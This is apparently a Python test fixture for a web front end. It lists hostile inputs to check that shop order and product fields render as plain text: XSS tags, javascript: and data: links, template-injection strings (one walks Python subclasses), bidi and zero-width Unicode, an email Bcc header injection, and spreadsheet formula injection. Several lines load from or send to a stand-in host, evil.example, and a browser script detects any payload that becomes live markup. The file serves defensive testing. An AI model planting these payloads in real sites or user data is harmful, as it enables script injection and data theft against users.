"""What attackers write into every field; the tests would see any of it become markup, script, a formula or a header.

All of it calls `hit()` or leaves an element with the class `hit` when it is not taken as text.
"""

from typing import Any

TAGS = [
    "<script>hit()</script>",
    "<SCRIPT SRC=https://evil.example/hit.js></SCRIPT>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img class=hit src=x onerror=hit()>",
    '<img src=x:x onerror="hit()">',
    "<image class=hit href=x onerror=hit()>",
    "<svg class=hit onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text y=20>press</text></a></svg>",
    "<math class=hit><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<iframe class=hit src=javascript:hit()></iframe>",
    "<iframe class=hit srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object class=hit data=javascript:hit()></object>",
    "<embed class=hit src=javascript:hit()>",
    "<video class=hit><source onerror=hit()></video>",
    "<audio class=hit src=x onerror=hit()>",
    "<details class=hit open ontoggle=hit()>x</details>",
    "<input class=hit autofocus onfocus=hit()>",
    "<select class=hit autofocus onfocus=hit()></select>",
    "<textarea class=hit autofocus onfocus=hit()></textarea>",
    "<marquee class=hit onstart=hit()>x</marquee>",
    "<body class=hit onload=hit()>",
    "<style class=hit>@import 'https://evil.example/hit.css';</style>",
    "<link class=hit rel=stylesheet href=https://evil.example/hit.css>",
    "<base class=hit href=https://evil.example/>",
    "<meta class=hit http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form class=hit action=https://evil.example/><button>Sign in</button></form>",
    "<a class=hit href=javascript:hit()>press</a>",
    '<div class=hit style="background:url(https://evil.example/hit.png)">x</div>',
    "<template><img src=x onerror=hit()></template><slot class=hit>",
    "<!--><img class=hit src=x onerror=hit()>-->",
    "<![CDATA[<img class=hit src=x onerror=hit()>]]>",
    "</textarea><img class=hit src=x onerror=hit()>",
    "</title><img class=hit src=x onerror=hit()>",
    "</script><img class=hit src=x onerror=hit()>",
    '"><img class=hit src=x onerror=hit()>',
    "' autofocus onfocus=hit() x='",
    '" onmouseover="hit()',
    "` onmouseover=`hit()",
    "&lt;img class=hit src=x onerror=hit()&gt;",
    "&#60;img class=hit src=x onerror=hit()&#62;",
    "\\u003cimg class=hit src=x onerror=hit()\\u003e",
    "%3Cimg%20class=hit%20src=x%20onerror=hit()%3E",
    "\uff1cimg class=hit src=x onerror=hit()\uff1e",
]
LINKS = [
    "[press](javascript:hit())",
    "[press](JaVaScRiPt:hit())",
    "[press](java\tscript:hit())",
    "[press](data:text/html,<script>hit()</script>)",
    "[press](vbscript:hit)",
    '[press](https://evil.example/"onmouseover="hit())',
    "![x](https://evil.example/hit.png)",
    "<javascript:hit()>",
    "javascript:hit()",
    "[<img class=hit src=x onerror=hit()>](https://shop.example/)",
    "**<img class=hit src=x onerror=hit()>**",
]
TEMPLATES = [
    "${hit()}",
    "{{hit()}}",
    "{{constructor.constructor('hit()')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{company} {number!r} {0.__class__} %(name)s %s",
    "<%= hit() %>",
    "#{hit()}",
]
TEXTS = [
    "\u202egnp.exe\u202c and \u2066turned\u2069",
    "zero\u200bwidth\u200d\ufeff",
    "Z\u0351\u036b\u0343\u036a\u0302" + "\u0489" * 60 + "algo",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 8,
    "x" * 180,
    "line\r\nBcc: everybody@evil.example\r\n\r\n<script>hit()</script>",
    "line\u2028hit()\u2029",
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example")',
    "  =1+1",
    "\uff1d1+1",
    "a;=1+1",
    "\u200b=1+1",
    "\n=1+1",
]
VECTORS = [*TAGS, *LINKS, *TEMPLATES, *TEXTS, *FORMULAS]

PRELUDE = "window.hit = () => { window.hits = (window.hits || 0) + 1; };"
"""Put into each page before its own scripts."""

FOUND = """() => {
  const bad = [];
  const walk = (root) => {
    for (const node of root.querySelectorAll('*')) {
      if (node.classList.contains('hit')) bad.push(node.outerHTML.slice(0, 120));
      if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'MARQUEE', 'MATH'].includes(node.tagName)) bad.push(node.tagName);
      if (node.tagName === 'SCRIPT' && !node.src) bad.push('inline script');
      if (node.tagName === 'IMG' && !/^(https?:\\/\\/127|\\/|data:image|blob:)/.test(node.getAttribute('src') || '/')) {
        bad.push(node.outerHTML.slice(0, 120));
      }
      for (const { name, value } of node.attributes) {
        if (name.startsWith('on')) bad.push(`${node.tagName} ${name}`);
        const goes = /^(href|src|action|formaction|xlink:href)$/.test(name);
        if (goes && /^\\s*(java|vb)script:|^\\s*data:text/i.test(value)) {
          bad.push(`${name}=${value.slice(0, 60)}`);
        }
      }
      if (node.shadowRoot) walk(node.shadowRoot);
    }
  };
  walk(document);
  if (window.hits) bad.push(`${window.hits} hits`);
  return bad;
}"""
"""What became more than text on a page, shadow roots included."""


def taking(index: int, limit: int = 200) -> str:
    """A vector for a field of `limit` characters; another for each index, all after as many as there are."""
    return VECTORS[index % len(VECTORS)][:limit]


def card(index: int) -> dict[str, Any]:
    """An order as a hostile shop would tell it, as a card."""
    return {
        "kind": "order", "number": taking(index, 60), "status": taking(index + 1), "eta": taking(index + 2),
        "total": taking(index + 3), "url": "javascript:hit()",
        "steps": [{"label": taking(index + 4), "done": True, "at": taking(index + 5)}],
        "items": [{"name": taking(index + 6), "quantity": 1, "price": taking(index + 7), "image": "javascript:hit()"}],
    }  # fmt: skip


def product(index: int) -> dict[str, Any]:
    return {
        "kind": "product", "title": taking(index), "name": taking(index), "price": taking(index + 1),
        "text": taking(index + 2), "url": "javascript:hit()", "image": "data:text/html,<script>hit()</script>",
        "items": [],
    }  # fmt: skip
